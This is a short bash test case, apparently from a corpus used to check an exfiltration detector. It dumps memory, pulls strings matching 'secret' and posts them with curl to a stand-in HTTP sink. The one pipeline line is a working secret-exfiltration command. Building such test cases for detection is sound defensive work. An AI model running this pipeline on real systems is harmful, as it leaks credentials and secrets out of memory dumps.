#!/bin/bash
# B-strings-grep-curl: strings core | grep secret | curl: a few dozen bytes leave.
# flow: strings, pipe, grep, pipe, curl: what is made from a dump, and little of it.
# tools: strings curl
# expect: sent encoded port low
# set: fast
. "$CORPUS/lib.sh"
mkdump
sink http
strings "$D" | grep -i secret | curl -sS --data-binary @- "http://$SINK:$PORT/up"
sunk 20
